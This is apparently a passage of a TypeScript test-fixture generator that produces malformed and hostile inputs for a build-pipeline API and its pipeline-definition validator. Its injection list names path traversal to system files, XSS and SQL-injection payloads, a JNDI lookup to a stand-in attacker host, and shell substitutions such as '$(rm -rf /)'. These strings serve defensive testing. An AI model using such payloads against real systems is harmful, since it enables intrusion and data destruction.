/**
 * Seeded generator of malformed inputs for test/reliability/bad-input.test.ts: HTTP requests to the
 * API, mutated pipeline definitions and forged or malformed approval decisions. The same seed gives
 * the same cases, so a failure reproduces with BAD_INPUT_SEED=<seed printed in the test names>.
 * Over 600 lines: a catalogue of input mutations, one after another; splitting it would scatter it.
 */
import { toDecisionEvent, type RefusalReason } from '../../src/domain/approvals';
import type { ApprovalDecision, ApprovalRequest } from '../../src/ports/approvals';
import { seededRandom as seededNumbers } from '../../src/local/azure-sim/util';

/** Picks from the simulator's seeded PRNG (mulberry32): good enough to pick cases; not for anything secret. */
export function seededRandom(seed: number) {
  const next = seededNumbers(seed);
  const int = (below: number): number => Math.floor(next() * below);
  const pick = <T>(items: readonly T[]): T => {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[int(items.length)] as T;
  };
  const letters = (length: number, alphabet = 'abcdefghijklmnopqrstuvwxyz'): string =>
    Array.from({ length }, () => alphabet[int(alphabet.length)]).join('');
  return { next, int, pick, letters };
}
export type Random = ReturnType<typeof seededRandom>;

/** BAD_INPUT_SEED=<n> replays a run; BAD_INPUT_SEED=random explores new cases. */
export function seedFromEnvironment(value = process.env.BAD_INPUT_SEED): number {
  if (value === undefined || value === '') return 20261110;
  if (value === 'random') return Math.floor(Math.random() * 2 ** 31);
  const seed = Number(value);
  if (!Number.isInteger(seed))
    throw new Error(`BAD_INPUT_SEED must be an integer or 'random', got '${value}'`);
  return seed;
}

/** A long string no answer may repeat whole; random letters so a prefix match is no accident. */
export const LONG_LENGTH = 10_000;
export const longString = (random: Random): string => `LONG${random.letters(LONG_LENGTH - 4)}`;

/** Latin letters with Cyrillic or typographic twins, as in a copy-pasted name. */
const LOOK_ALIKES: Record<string, string> = {
  a: '\u0430',
  e: '\u0435',
  o: '\u043e',
  c: '\u0441',
  p: '\u0440',
  x: '\u0445',
  i: '\u0456',
  E: '\u0415',
  T: '\u0422',
  '-': '\u2010',
  _: '\uff3f',
  '.': '\u2024',
  '0': '\uff10',
  '1': '\uff11',
};
/** The value with one character swapped for its look-alike (or a zero-width space in front). */
export function lookAlike(value: string, random: Random): string {
  const positions = [...value].flatMap((char, index) => (LOOK_ALIKES[char] === undefined ? [] : [index]));
  if (positions.length === 0) return `\u200b${value}`;
  const at = random.pick(positions);
  const chars = [...value];
  chars[at] = LOOK_ALIKES[chars[at] as string] as string;
  return chars.join('');
}

/** Strings that try to escape a path, a page, a query, a template or a shell; all short. */
export const INJECTIONS: readonly string[] = [
  '../../../etc/passwd',
  '..\\..\\windows\\system32',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE builds; --",
  "' OR '1'='1",
  '${FACTORY_CLIENT_SECRET}',
  '${jndi:ldap://evil.example/a}',
  '%APPDATA%',
  '%00',
  'a\u0000b',
  '\u0000',
  '$(rm -rf /)',
  '`id`',
  '{{7*7}}',
  'x\r\nX-Injected: 1',
  '\u202eexe.txt',
  '🙂🙂',
  ' ',
  '',
];

export const pick = <T>(random: Random, items: readonly T[], count: number): T[] =>
  Array.from({ length: count }, () => random.pick(items));

/** Values of a JSON type other than the one a field has. */
export function wrongTypes(kind: 'string' | 'number' | 'boolean' | 'object' | 'array'): unknown[] {
  const all: Record<string, unknown[]> = {
    string: ['text', ''],
    number: [42, -1.5],
    boolean: [true, false],
    object: [{}, { nested: 1 }],
    array: [[], ['a']],
    null: [null],
  };
  return Object.entries(all).flatMap(([type, values]) => (type === kind ? [] : values));
}

/** A JSON path as the product prints it: `stages[2].regions[0].name`. */
export function printPath(path: readonly (string | number)[]): string {
  return path.reduce<string>(
    (text, key) => (typeof key === 'number' ? `${text}[${key}]` : text === '' ? key : `${text}.${key}`),
    '',
  );
}

type Doc = Record<string, unknown>;

function parentOf(doc: unknown, path: readonly (string | number)[]): Doc | unknown[] {
  let node: unknown = doc;
  for (const key of path.slice(0, -1)) {
    node = (node as Record<string | number, unknown>)[key];
    if (node === null || typeof node !== 'object') throw new Error(`no ${printPath(path)} in the document`);
  }
  return node as Doc | unknown[];
}

export function getAt(doc: unknown, path: readonly (string | number)[]): unknown {
  const last = path[path.length - 1];
  if (last === undefined) return doc;
  return (parentOf(doc, path) as Record<string | number, unknown>)[last];
}

export function setAt(doc: unknown, path: readonly (string | number)[], value: unknown): void {
  const last = path[path.length - 1];
  if (last === undefined) throw new Error('cannot replace the whole document');
  (parentOf(doc, path) as Record<string | number, unknown>)[last] = value;
}

export function deleteAt(doc: unknown, path: readonly (string | number)[]): void {
  const last = path[path.length - 1];
  if (last === undefined) throw new Error('cannot delete the whole document');
  delete (parentOf(doc, path) as Record<string | number, unknown>)[last];
}

// ---------------------------------------------------------------------------------------------
// HTTP API
// ---------------------------------------------------------------------------------------------

export interface HttpCase {
  name: string;
  method: string;
  /** Path and query, already encoded as they go on the wire. */
  path: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  /** Content-Length to announce instead of the body's own (a body bigger than it claims to be). */
  declaredLength?: number;
  /** null: no x-functions-key; undefined: the test's valid key. */
  functionKey?: string | null;
  status: number;
  /** 'problem': application/problem+json naming the problem; 'empty': the host's own bare answer. */
  answer: 'problem' | 'empty';
  /** One of the answer's errors[].path must equal this (or start with it, for a shortened name). */
  errorPath?: string;
  errorPathIsPrefix?: boolean;
  /** Without an errorPath, the detail must say this. */
  detail?: RegExp;
  /** Request strings the answer must not repeat in full. */
  mustNotEcho: string[];
}

export interface HttpCaseContext {
  pipelines: readonly string[];
  stages: readonly string[];
  /** Keys the front end accepts: they go into bodies and headers, and must never come back. */
  keys: readonly string[];
}

const JSON_TYPE = { 'content-type': 'application/json' };
const nonEmptyInjections = INJECTIONS.filter((s) => s.trim() !== '');
/** Injections a reason may hold: a reason with a control character is refused (400) by itself. */
const reasonInjections = nonEmptyInjections.filter(
  (s) => !/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(s),
);

export function generateHttpCases(random: Random, context: HttpCaseContext): HttpCase[] {
  const cases: HttpCase[] = [];
  const pipeline = () => random.pick(context.pipelines);
  const key = () => random.pick(context.keys);
  const describe = (value: unknown) => JSON.stringify(value)?.slice(0, 40) ?? String(value).slice(0, 40);
  const longs = (...values: unknown[]) =>
    values.flatMap((v) => (typeof v === 'string' && v.length >= 1000 ? [v] : []));
  const post = (
    name: string,
    path: string,
    body: unknown,
    expected: Pick<HttpCase, 'status' | 'errorPath' | 'errorPathIsPrefix' | 'detail'>,
    extra: Partial<HttpCase> = {},
  ) =>
    cases.push({
      name,
      method: 'POST',
      path,
      headers: { ...JSON_TYPE },
      body: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
      answer: 'problem',
      mustNotEcho: [],
      ...expected,
      ...extra,
    });
  const start = (
    name: string,
    body: unknown,
    status: number,
    errorPath: string,
    extra: Partial<HttpCase> = {},
  ) => post(`POST /api/builds: ${name}`, '/api/builds', body, { status, errorPath }, extra);

  // Wrong types, field by field.
  for (const value of wrongTypes('string'))
    start(`pipeline is ${describe(value)}`, { pipeline: value }, 400, 'pipeline');
  for (const value of wrongTypes('string'))
    start(`reason is ${describe(value)}`, { pipeline: pipeline(), reason: value }, 400, 'reason');
  for (const value of wrongTypes('object'))
    start(`overrides is ${describe(value)}`, { pipeline: pipeline(), overrides: value }, 400, 'overrides');
  for (const value of [...wrongTypes('number'), 0, 961, 1.5, -5, 1e300])
    start(
      `overrides.buildTimeoutMinutes is ${describe(value)}`,
      { pipeline: pipeline(), overrides: { buildTimeoutMinutes: value } },
      400,
      'overrides.buildTimeoutMinutes',
    );
  for (const value of [
    ...wrongTypes('string').slice(0, 4),
    ...pick(random, INJECTIONS, 6),
    lookAlike('1.0.0', random),
    '1.0',
    'v1.0.0',
    'LATEST',
  ])
    start(
      `overrides.sourceVersion is ${describe(value)}`,
      { pipeline: pipeline(), overrides: { sourceVersion: value } },
      400,
      'overrides.sourceVersion',
    );
  const long = longString(random);
  for (const value of [
    ...wrongTypes('string').slice(0, 4),
    ...pick(random, INJECTIONS, 6),
    lookAlike(random.pick(context.stages), random),
    random.pick(context.stages).toLowerCase(),
    long,
  ]) {
    // Strings that fit the field's size are checked against the pipeline's stages (422).
    const fits = typeof value === 'string' && value.length >= 1 && value.length <= 16;
    start(
      `overrides.stopAfterStage is ${describe(value)}`,
      { pipeline: pipeline(), reason: random.pick(reasonInjections), overrides: { stopAfterStage: value } },
      fits ? 422 : 400,
      'overrides.stopAfterStage',
      { mustNotEcho: longs(value) },
    );
  }

  // Missing and unknown fields.
  for (const body of [{}, { reason: 'patch' }, { overrides: {} }, ''])
    start(`no pipeline in ${describe(body)}`, body === '' ? '' : body, 400, 'pipeline');
  const unknownNames = [
    'colour',
    'Pipeline',
    'pipeline ',
    '__proto__',
    'constructor',
    ...pick(random, nonEmptyInjections, 5),
  ];
  for (const name of unknownNames)
    start(`unknown field ${describe(name)}`, { pipeline: pipeline(), [name]: 1 }, 400, name);
  for (const name of ['vmSize', ...pick(random, nonEmptyInjections, 3)])
    start(
      `unknown override ${describe(name)}`,
      { pipeline: pipeline(), overrides: { [name]: 'x' } },
      400,
      `overrides.${name}`,
    );
  const longName = longString(random);
  start('unknown field with a 10k-character name', { pipeline: pipeline(), [longName]: 1 }, 400, 'LONG', {
    errorPathIsPrefix: true,
    mustNotEcho: [longName],
  });

  // Unknown pipelines: injections, look-alikes of real names, keys.
  for (const name of [
    ...pick(random, nonEmptyInjections, 8),
    lookAlike(pipeline(), random),
    lookAlike(pipeline(), random),
    pipeline().toUpperCase(),
    `${pipeline()} `,
    `${pipeline()}/../${pipeline()}`,
    key(),
  ])
    start(`unknown pipeline ${describe(name)}`, { pipeline: name }, 404, 'pipeline');
  const longPipeline = longString(random);
  start('pipeline of 10k characters', { pipeline: longPipeline }, 400, 'pipeline', {
    mustNotEcho: [longPipeline],
  });
  start('empty pipeline name', { pipeline: '' }, 400, 'pipeline');
  for (const reason of ['r'.repeat(501), longString(random), `${key()}${longString(random)}`])
    start(`reason of ${reason.length} characters`, { pipeline: pipeline(), reason }, 400, 'reason', {
      mustNotEcho: longs(reason),
    });

  // Bodies that are not JSON objects.
  const invalidJson: [string, string | Buffer][] = [
    ['truncated', '{"pipeline": '],
    ['unquoted key', `{pipeline: "${pipeline()}"}`],
    ['single quotes', `{'pipeline':'${pipeline()}'}`],
    ['trailing comma', `{"pipeline":"${pipeline()}",}`],
    ['extra brace', `{"pipeline":"${pipeline()}"}}`],
    ['NaN', 'NaN'],
    ['undefined', 'undefined'],
    ['raw NUL in a string', `{"pipeline":"a\u0000b"}`],
    ['invalid UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d])],
    ['random bytes', Buffer.from(Array.from({ length: 64 }, () => random.int(256)))],
    ['unterminated 10k string', `{"pipeline":"${longString(random)}`],
    ['10k garbage', longString(random)],
    ['comment', `{"pipeline":"${pipeline()}" /* x */}`],
  ];
  for (const [name, body] of invalidJson)
    post(
      `POST /api/builds: invalid JSON (${name})`,
      '/api/builds',
      body,
      { status: 400, detail: /not valid JSON/ },
      {
        mustNotEcho: typeof body === 'string' && body.length >= 1000 ? [body.slice(12)] : [],
      },
    );
  for (const body of ['null', '42', '"ubuntu"', '[1,2]', 'true', `[{"pipeline":"${pipeline()}"}]`])
    start(`body ${body}`, body, 400, '(body)');
  const deep = `{"pipeline":${'['.repeat(5000)}${']'.repeat(5000)}}`;
  start('pipeline nested 5000 arrays deep', deep, 400, 'pipeline');

  // Content types other than JSON.
  const validBody = () => JSON.stringify({ pipeline: pipeline() });
  const longType = `application/${longString(random)}`;
  for (const type of [
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/xml',
    'application/jsonp',
    'json',
    'text/html; application/json',
    longType,
    null,
  ])
    cases.push({
      name: `POST /api/builds: content type ${describe(type)}`,
      method: 'POST',
      path: '/api/builds',
      headers: type === null ? {} : { 'content-type': type },
      body: Buffer.from(validBody()),
      status: 415,
      answer: 'problem',
      errorPath: '(header) content-type',
      mustNotEcho: type === longType ? [longType] : [],
    });

  // Bodies over the app's limit (problem answer) and over the front end's (the host's bare 413).
  for (const size of [64 * 1024 + 1, 200_000 + random.int(100_000), 900_000])
    post(
      `POST /api/builds: ${size}-byte body`,
      '/api/builds',
      JSON.stringify({ pipeline: pipeline(), reason: 'x'.repeat(size) }),
      { status: 413, detail: /larger than/ },
    );
  cases.push({
    name: 'POST /api/builds: body over the front end limit',
    method: 'POST',
    path: '/api/builds',
    headers: { ...JSON_TYPE },
    body: JSON.stringify({ pipeline: pipeline(), reason: 'x'.repeat(1_600_000) }),
    status: 413,
    answer: 'empty',
    mustNotEcho: [],
  });
  cases.push({
    name: 'POST /api/builds: announces 10 GB',
    method: 'POST',
    path: '/api/builds',
    headers: { ...JSON_TYPE },
    body: validBody(),
    declaredLength: 10 * 1024 ** 3,
    status: 413,
    answer: 'empty',
    mustNotEcho: [],
  });

  // Idempotency keys out of bounds (the body is valid: only the key is wrong).
  for (const idempotencyKey of ['', '   ', 'k'.repeat(201), `${key()}${'k'.repeat(300)}`, longString(random)])
    post(
      `POST /api/builds: Idempotency-Key of ${idempotencyKey.length} characters`,
      '/api/builds',
      validBody(),
      { status: 400, errorPath: '(header) Idempotency-Key' },
      {
        headers: { ...JSON_TYPE, 'idempotency-key': idempotencyKey },
        mustNotEcho: longs(idempotencyKey),
      },
    );

  // Keys.
  for (const functionKey of [null, '', 'wrong', `${key()}x`, key().toUpperCase(), longString(random)])
    cases.push({
      name: `POST /api/builds: function key ${describe(functionKey)?.slice(0, 12)}`,
      method: 'POST',
      path: '/api/builds',
      headers: { ...JSON_TYPE },
      body: validBody(),
      functionKey,
      status: 401,
      answer: 'empty',
      mustNotEcho: longs(functionKey),
    });

  // Cancel: bad ids, bad bodies, unknown builds.
  const badIds = [...pick(random, nonEmptyInjections, 8), lookAlike('build-1', random), 'a'.repeat(101)];
  for (const id of badIds)
    post(
      `cancel: build id ${describe(id)}`,
      `/api/builds/${encodeURIComponent(id)}/cancel`,
      { reason: 'x' },
      {
        status: 400,
        errorPath: '(route) id',
      },
    );
  const longId = longString(random);
  post(
    'cancel: build id of 10k characters',
    `/api/builds/${longId}/cancel`,
    { reason: 'x' },
    {
      status: 400,
      errorPath: '(route) id',
    },
    { mustNotEcho: [longId] },
  );
  const cancelPath = `/api/builds/no-such-build-${random.letters(6)}/cancel`;
  const cancelBodies: [string, unknown, number, string][] = [
    ['no reason', {}, 400, 'reason'],
    ['empty reason', { reason: '' }, 400, 'reason'],
    ['numeric reason', { reason: 42 }, 400, 'reason'],
    ['null reason', { reason: null }, 400, 'reason'],
    ['reason of 10k', { reason: longString(random) }, 400, 'reason'],
    ['unknown field', { reason: 'x', force: true }, 400, 'force'],
    ['injected field', { reason: 'x', [random.pick(nonEmptyInjections)]: 1 }, 400, ''],
    ['array body', '[]', 400, '(body)'],
    ['null body', 'null', 400, '(body)'],
  ];
  for (const [name, body, status, errorPath] of cancelBodies) {
    const injected =
      typeof body === 'object' && body !== null ? Object.keys(body).find((k) => k !== 'reason') : undefined;
    post(
      `cancel: ${name}`,
      cancelPath,
      body,
      {
        status,
        errorPath: name === 'injected field' ? (injected ?? '') : errorPath,
      },
      { mustNotEcho: longs((body as { reason?: unknown }).reason) },
    );
  }
  post('cancel: invalid JSON', cancelPath, '{"reason":', { status: 400, detail: /not valid JSON/ });
  post(
    'cancel: text/plain',
    cancelPath,
    JSON.stringify({ reason: 'x' }),
    { status: 415, errorPath: '(header) content-type' },
    {
      headers: { 'content-type': 'text/plain' },
    },
  );
  post('cancel: unknown build', cancelPath, { reason: 'stop' }, { status: 404, detail: /No build/ });

  // Revoke: unknown pipelines, versions that are not Major.Minor.Patch, bad bodies.
  for (const name of [
    ...pick(random, nonEmptyInjections, 4),
    lookAlike(pipeline(), random),
    longString(random),
  ])
    post(
      `revoke: pipeline ${describe(name)}`,
      `/api/versions/${encodeURIComponent(name)}/1.0.0/revoke`,
      { reason: 'bad' },
      { status: 404, detail: /no valid pipeline/ },
      { mustNotEcho: longs(name) },
    );
  for (const version of [
    'latest',
    '1.0',
    '1.0.0.0',
    'v1.0.0',
    '-1.0.0',
    '1.0.0-beta',
    '12345678901.0.0',
    '1.0.x',
    lookAlike('1.0.0', random),
    ...pick(random, nonEmptyInjections, 4),
  ])
    post(
      `revoke: version ${describe(version)}`,
      `/api/versions/${pipeline()}/${encodeURIComponent(version)}/revoke`,
      { reason: 'bad' },
      { status: 400, errorPath: '(route) version' },
    );
  const revokePath = `/api/versions/${pipeline()}/1.0.${random.int(1000)}/revoke`;
  for (const [name, body, errorPath] of [
    ['no reason', {}, 'reason'],
    ['empty reason', { reason: '' }, 'reason'],
    ['reason of 10k', { reason: longString(random) }, 'reason'],
    ['boolean reason', { reason: true }, 'reason'],
    ['unknown field', { reason: 'x', everywhere: true }, 'everywhere'],
    ['array body', '[{"reason":"x"}]', '(body)'],
  ] as [string, unknown, string][])
    post(
      `revoke: ${name}`,
      revokePath,
      body,
      { status: 400, errorPath },
      {
        mustNotEcho: longs((body as { reason?: unknown }).reason),
      },
    );
  post(
    'revoke: text/plain',
    revokePath,
    '{"reason":"x"}',
    { status: 415, errorPath: '(header) content-type' },
    {
      headers: { 'content-type': 'text/plain' },
    },
  );

  // Reads with bad ids and queries.
  const get = (name: string, path: string, status: number, expected: Partial<HttpCase> = {}) =>
    cases.push({
      name,
      method: 'GET',
      path,
      headers: {},
      status,
      answer: 'problem',
      mustNotEcho: [],
      ...expected,
    });
  for (const id of [...pick(random, nonEmptyInjections, 4), 'b'.repeat(101)]) {
    get(`GET build ${describe(id)}`, `/api/builds/${encodeURIComponent(id)}`, 400, {
      errorPath: '(route) id',
    });
    get(`GET view of ${describe(id)}`, `/api/builds/${encodeURIComponent(id)}/view`, 400, {
      errorPath: '(route) id',
    });
  }
  for (const [query, errorPath] of [
    [`status=${encodeURIComponent(random.pick(nonEmptyInjections))}`, '(query) status'],
    ['status=RUNNING', '(query) status'],
    ['status=done', '(query) status'],
    ['top=0', '(query) top'],
    ['top=501', '(query) top'],
    ['top=1.5', '(query) top'],
    ['top=ten', '(query) top'],
    [`pipeline=${encodeURIComponent(random.pick(nonEmptyInjections))}`, '(query) pipeline'],
    [`pipeline=${encodeURIComponent(lookAlike(pipeline(), random))}`, '(query) pipeline'],
    ['continuation=not-a-token', '(query) continuation'],
    [`continuation=${Buffer.from('{"a":1}').toString('base64url')}`, '(query) continuation'],
    ['colour=red', '(query) colour'],
    [`${encodeURIComponent('<script>')}=1`, '(query) <script>'],
  ] as [string, string][])
    get(`GET /api/builds?${query}`, `/api/builds?${query}`, 400, { errorPath });
  for (const name of [
    ...pick(random, nonEmptyInjections, 3),
    lookAlike(pipeline(), random),
    longString(random),
  ])
    get(`GET pipeline ${describe(name)}`, `/api/pipelines/${encodeURIComponent(name)}`, 404, {
      detail: /no valid pipeline/,
      mustNotEcho: longs(name),
    });

  // Routes that do not exist, and methods a route does not take (the host's bare 404 and 405).
  const bare = (method: string, path: string, status: number) =>
    cases.push({
      name: `${method} ${path.slice(0, 60)}`,
      method,
      path,
      headers: { ...JSON_TYPE },
      ...(method === 'GET' ? {} : { body: validBody() }),
      status,
      answer: 'empty',
      mustNotEcho: [],
    });
  for (const path of [
    '/api/nope',
    '/api/builds/a/b/c',
    '/api/versions/x',
    '/api/../../etc/passwd',
    '/api/builds/x/cancel/now',
    '/api/BUILDS/x/y/z/w',
  ])
    bare(random.pick(['GET', 'POST']), path, 404);
  for (const [method, path] of [
    ['PUT', '/api/builds'],
    ['DELETE', '/api/builds'],
    ['PATCH', '/api/builds'],
    ['GET', `/api/builds/${random.letters(8)}/cancel`],
    ['POST', '/api/pipelines'],
    ['DELETE', `/api/versions/${pipeline()}/1.0.0/revoke`],
    ['PUT', `/api/builds/${random.letters(8)}`],
  ])
    bare(method as string, path as string, 405);
  return cases;
}

// ---------------------------------------------------------------------------------------------
// Pipeline definitions
// ---------------------------------------------------------------------------------------------

export interface DefinitionCase {
  name: string;
  base: string;
  format: 'yaml' | 'json';
  edit: (doc: Doc) => void;
  /** A problem must have this path … */
  path: string;
  /** … and, when given, say this. */
  message?: RegExp;
  mustNotEcho: string[];
}

interface FieldTarget {
  path: (string | number)[];
  kind: 'string' | 'number' | 'boolean';
  /** Deleting it is a problem too (no default). */
  required: boolean;
  /** Values of the right type that break the field's own rule. */
  invalid: unknown[];
  /**
   * A resource id is checked only up to its resource group (anything may follow /providers/), so a
   * look-alike character in the resource's own name is not caught at load time.
   */
  noLookAlike?: boolean;
}

const REGIONS_BAD = ['West Europe', 'west-europe', 'westeurope ', 'WESTEUROPE', 'we', '1westeurope'];
const RESOURCE_GROUPS_BAD = ['rg.', 'rg/images', 'rg images', 'r'.repeat(91), 'rg:images'];
const GUIDS_BAD = [
  '11111111-1111-4111-8111-11111111111',
  'not-a-guid',
  '{11111111-1111-4111-8111-111111111111}',
];

function fieldTargets(doc: Doc, random: Random): FieldTarget[] {
  const stages = getAt(doc, ['stages']) as Doc[];
  const stage = random.int(stages.length);
  const approved = 1 + random.int(stages.length - 1);
  const regions = getAt(doc, ['stages', stage, 'regions']) as unknown[];
  const region = random.int(regions.length);
  const at = (...path: (string | number)[]) => path;
  return [
    { path: at('name'), kind: 'string', required: true, invalid: ['Ubuntu-Base', 'ab', 'x_y_z', 'ends-'] },
    { path: at('source', 'version'), kind: 'string', required: true, invalid: ['1.0', 'v1.2.3', 'Latest'] },
    { path: at('image', 'definition'), kind: 'string', required: true, invalid: ['-image', 'image-', 'a'] },
    { path: at('image', 'osType'), kind: 'string', required: true, invalid: ['linux', 'MacOS'] },
    { path: at('image', 'hyperVGeneration'), kind: 'string', required: false, invalid: ['V3', 'v2'] },
    { path: at('image', 'securityType'), kind: 'string', required: false, invalid: ['Trusted'] },
    { path: at('build', 'location'), kind: 'string', required: true, invalid: REGIONS_BAD },
    { path: at('build', 'resourceGroup'), kind: 'string', required: true, invalid: RESOURCE_GROUPS_BAD },
    {
      path: at('build', 'vmSize'),
      kind: 'string',
      required: true,
      invalid: ['D2s_v5', 'standard_D2s_v5', 'Standard_'],
    },
    { path: at('build', 'osDiskSizeGB'), kind: 'number', required: false, invalid: [29, 4096, 64.5] },
    { path: at('build', 'timeoutMinutes'), kind: 'number', required: false, invalid: [0, 961, 1.5] },
    { path: at('build', 'expectedMinutes'), kind: 'number', required: false, invalid: [0, 961] },
    {
      path: at('build', 'identity', 'resourceId'),
      kind: 'string',
      required: true,
      invalid: ['id-image-builder', '/subscriptions/x'],
      noLookAlike: true,
    },
    { path: at('build', 'identity', 'principalId'), kind: 'string', required: true, invalid: GUIDS_BAD },
    { path: at('test', 'resourceGroup'), kind: 'string', required: true, invalid: RESOURCE_GROUPS_BAD },
    {
      path: at('test', 'subnetId'),
      kind: 'string',
      required: true,
      invalid: ['snet-test', 'subscriptions/x/resourceGroups/y'],
      noLookAlike: true,
    },
    { path: at('test', 'timeoutMinutes'), kind: 'number', required: false, invalid: [0, 91] },
    { path: at('test', 'scripts', 0, 'shell'), kind: 'string', required: true, invalid: ['bash', 'Cmd'] },
    {
      path: at('stages', stage, 'name'),
      kind: 'string',
      required: true,
      invalid: ['E', '1ENG', 'ENG-1', 'A'.repeat(17)],
    },
    { path: at('stages', stage, 'tenantId'), kind: 'string', required: true, invalid: GUIDS_BAD },
    { path: at('stages', stage, 'subscriptionId'), kind: 'string', required: true, invalid: GUIDS_BAD },
    {
      path: at('stages', stage, 'gallery', 'resourceGroup'),
      kind: 'string',
      required: true,
      invalid: RESOURCE_GROUPS_BAD,
    },
    {
      path: at('stages', stage, 'gallery', 'name'),
      kind: 'string',
      required: true,
      invalid: ['gal-eng', 'g', '_gal'],
    },
    {
      path: at('stages', stage, 'regions', region, 'name'),
      kind: 'string',
      required: true,
      invalid: REGIONS_BAD,
    },
    {
      path: at('stages', stage, 'regions', region, 'replicas'),
      kind: 'number',
      required: true,
      invalid: [0, 101, 1.5, -3],
    },
    {
      path: at('stages', stage, 'regions', region, 'storageAccountType'),
      kind: 'string',
      required: false,
      invalid: ['Premium_ZRS', 'standard_lrs'],
    },
    { path: at('stages', approved, 'approval', 'required'), kind: 'boolean', required: true, invalid: [] },
    {
      path: at('stages', approved, 'approval', 'deadlineHours'),
      kind: 'number',
      required: false,
      invalid: [0, 721, -1],
    },
    { path: at('cadence', 'offsetDays'), kind: 'number', required: true, invalid: [28, -1, 1.5] },
    {
      path: at('cadence', 'at'),
      kind: 'string',
      required: true,
      invalid: ['24:00', '6:00', '06:60', '0600', '06:00Z'],
    },
  ];
}

export function generateDefinitionCases(
  random: Random,
  examples: Record<string, Doc>,
  /** Settings the examples refer to; look-alikes are made of the values a field really gets. */
  env: Record<string, string>,
): DefinitionCase[] {
  const cases: DefinitionCase[] = [];
  const resolve = (value: unknown) =>
    typeof value === 'string'
      ? value.replace(/\$\{(\w+)\}/g, (whole, name: string) => env[name] ?? whole)
      : value;
  const add = (
    base: string,
    name: string,
    edit: (doc: Doc) => void,
    path: string,
    extra: Partial<DefinitionCase> = {},
  ) =>
    cases.push({
      name: `${base}: ${name}`,
      base,
      format: random.pick(['yaml', 'json'] as const),
      edit,
      path,
      mustNotEcho: [],
      ...extra,
    });

  for (const [base, example] of Object.entries(examples)) {
    for (const target of fieldTargets(example, random)) {
      const path = printPath(target.path);
      const current = resolve(getAt(example, target.path));
      const sameType =
        target.kind === 'string'
          ? [
              ...target.invalid,
              ...pick(random, INJECTIONS, 2),
              longString(random),
              target.noLookAlike ? '' : lookAlike(typeof current === 'string' ? current : 'value', random),
            ]
          : [...target.invalid, JSON.stringify(current ?? 1)];
      const values = [random.pick(sameType), random.pick(sameType), random.pick(wrongTypes(target.kind))];
      for (const value of values)
        add(
          base,
          `${path} = ${JSON.stringify(value)?.slice(0, 40)}`,
          (doc) => setAt(doc, target.path, value),
          path,
          {
            mustNotEcho: typeof value === 'string' && value.length >= 1000 ? [value] : [],
          },
        );
      if (target.required) add(base, `${path} deleted`, (doc) => deleteAt(doc, target.path), path);
    }

    // Settings placeholders: an unset one, and a secret pulled into a field it cannot fit.
    add(
      base,
      'tenant id from an unset setting',
      (doc) => setAt(doc, ['stages', 1, 'tenantId'], '${NOT_A_SETTING}'),
      'stages[1].tenantId',
      {
        message: /NOT_A_SETTING, which is not set/,
      },
    );
    add(
      base,
      'VM size from a secret setting',
      (doc) => setAt(doc, ['build', 'vmSize'], '${FACTORY_CLIENT_SECRET}'),
      'build.vmSize',
      {
        mustNotEcho: [env.FACTORY_CLIENT_SECRET ?? '(no secret in env)'],
      },
    );
    add(base, 'name of another pipeline', (doc) => setAt(doc, ['name'], `${base}-x`), 'name', {
      message: /file name/,
    });

    // Gates the target environment requires (environments.yaml): a pipeline cannot weaken them.
    const gated = 2; // PROD: approval required, at least 72 hours
    add(
      base,
      'PROD approval waived',
      (doc) => setAt(doc, ['stages', gated, 'approval', 'required'], false),
      `stages[${gated}].approval.required`,
      { message: /environment PROD requires an approval/ },
    );
    add(
      base,
      'PROD deadline shortened',
      (doc) => setAt(doc, ['stages', gated, 'approval', 'deadlineHours'], 1 + random.int(71)),
      `stages[${gated}].approval.deadlineHours`,
      { message: /shorter than environment PROD's minimum of 72 hours/ },
    );
    add(
      base,
      'PROD stage promoting into a gallery of its own',
      (doc) => setAt(doc, ['stages', gated, 'gallery', 'name'], `gal_${random.letters(8)}`),
      `stages[${gated}].gallery`,
      { message: /the PROD environment's/ },
    );
    add(
      base,
      'PROD stage naming the TEST environment',
      (doc) => setAt(doc, ['stages', gated, 'environment'], 'TEST'),
      `stages[${gated}].tenantId`,
      { message: /the TEST environment's/ },
    );

    // Rules across fields.
    add(
      base,
      'duplicate stage name',
      (doc) => setAt(doc, ['stages', 2, 'name'], getAt(doc, ['stages', 1, 'name'])),
      'stages[2].name',
      {
        message: /duplicate stage name/,
      },
    );
    add(
      base,
      'duplicate stage name in another case',
      (doc) => setAt(doc, ['stages', 1, 'name'], 'eng'),
      'stages[1].name',
      {
        message: /duplicate stage name/,
      },
    );
    add(
      base,
      'ENG stage with an approval',
      (doc) => setAt(doc, ['stages', 0, 'approval'], { required: true }),
      'stages[0].approval',
    );
    add(
      base,
      'ENG stage pre-staged',
      (doc) => setAt(doc, ['stages', 0, 'preStage'], true),
      'stages[0].preStage',
    );
    add(
      base,
      'ENG stage without the build region',
      (doc) => setAt(doc, ['stages', 0, 'regions'], [{ name: 'eastus', replicas: 1 }]),
      'stages[0].regions',
    );
    add(
      base,
      'retest without a test placement',
      (doc) => setAt(doc, ['stages', 1, 'retest'], true),
      'stages[1].retest',
    );
    add(base, 'no stages', (doc) => setAt(doc, ['stages'], []), 'stages');
    add(base, 'no customizers', (doc) => setAt(doc, ['build', 'customizers'], []), 'build.customizers');
    add(
      base,
      'customizer with inline and scriptUri',
      (doc) => setAt(doc, ['build', 'customizers', 0, 'scriptUri'], 'https://example.com/x.sh'),
      'build.customizers[0]',
    );
    add(
      base,
      'customizer of the other OS',
      (doc) => {
        const windows = getAt(doc, ['image', 'osType']) === 'Windows';
        setAt(
          doc,
          ['build', 'customizers', 0],
          windows ? { type: 'Shell', name: 'x', inline: ['true'] } : { type: 'WindowsRestart', name: 'x' },
        );
      },
      'build.customizers[0].type',
    );
    add(
      base,
      'test script of the other OS',
      (doc) =>
        setAt(
          doc,
          ['test', 'scripts', 0, 'shell'],
          getAt(doc, ['image', 'osType']) === 'Windows' ? 'Shell' : 'PowerShell',
        ),
      'test.scripts[0].shell',
    );
    add(
      base,
      'unknown source type',
      (doc) => setAt(doc, ['source', 'type'], random.pick(['marketplace', ...INJECTIONS.slice(0, 3)])),
      'source.type',
    );
    add(
      base,
